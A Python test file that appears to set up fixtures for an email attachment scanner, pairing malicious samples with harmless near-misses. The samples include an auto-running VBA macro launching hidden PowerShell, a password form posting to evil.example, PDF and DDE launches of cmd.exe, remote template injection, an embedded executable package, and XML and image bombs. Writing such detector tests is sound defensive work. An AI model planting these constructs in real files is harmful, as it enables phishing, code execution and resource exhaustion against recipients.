"""The detectors that look at attachments: real files that must be noticed, and near misses that must not."""

import struct

from mailguard.corpus.writers import formats as makers
from mailguard.files import examine
from tests.cast.mailguard.files import rare
from tests.cast.mailguard.maker import facts

MACRO = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -w hidden"\r\nEnd Sub\r\n'

TOTALS = "Sub Total()\r\n  MsgBox 1\r\nEnd Sub\r\n"

FORM = b"<html><form action=https://evil.example/p><input name=a><input type=password></form></html>"

SEARCH = b"<html><form action=/search><input type=hidden></form><p>Programme</p></html>"

BLOB = b"<html><script>new Blob([atob('UEsDBA==')])</script></html>"

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'

RTF = b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"

LINK = rare.pdf(page=rare.pdf_link(b"https://evil.example/d"), words=b"Open")

OWN = rare.pdf(page=rare.pdf_link(b"https://www.stranger.example/d"), words=b"Open")

LAUNCH = rare.pdf(root=b"/OpenAction << /S /Launch /F (cmd.exe) >>")

OPENER = rare.pdf(root=b"/OpenAction [3 0 R /Fit]")

TEMPLATE = {"word/_rels/settings.xml.rels": rare.relations(("attachedTemplate", "https://evil.example/t"))}

STYLES = {"word/_rels/document.xml.rels": rare.relations(("hyperlink", "https://evil.example/t"))}

PACKED = makers.compound({"\x01Ole10Native": rare.package("run.exe", makers.PROGRAM)})

DDE = makers.zipped(
    {"[Content_Types].xml": b"", "word/document.xml": b"<w:instrText>DDEAUTO cmd.exe /c x</w:instrText>"}
)

CODE = makers.picture("https://evil.example/q")

CALENDAR = b"BEGIN:VCALENDAR\nMETHOD:REQUEST\nORGANIZER:mailto:%s\nDESCRIPTION:%s\n%sEND:VCALENDAR\n"

CARD = b"BEGIN:VCARD\nFN:%s\nEMAIL:%s\nEND:VCARD\n"

SELF = b"ada@stranger.example"


def _document(source):
    return makers.document(pieces={"word/vbaProject.bin": makers.macro_project(source)})


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

MANY = {f"{number}.jpg": b"\xff\xd8\xff" for number in range(70)}

ENTITIES = b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'ha'>" + b"".join(
    b'<!ENTITY %c "&%c;&%c;&%c;">' % (new, old, old, old) for old, new in zip(b"abcd", b"bcde", strict=True)
)

ENTITIES += b"]><svg><text>&e;</text></svg>"

ENDLESS = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 50_000, 50_000) + b"\1" * 400

BROKEN = b"%PDF-1.7\n1 0 obj <</OpenAction <</S /Launch /F (cmd.exe)>> endobj"

TELLS = "The password is Valbrune7."


def _made(name, data, words=TELLS, **values):
    return facts(words, files=examine("2", name, "", data, words=words), **values)


def _ids(rows):
    return [f"{number}-{row[0]}" for number, row in enumerate(rows)]
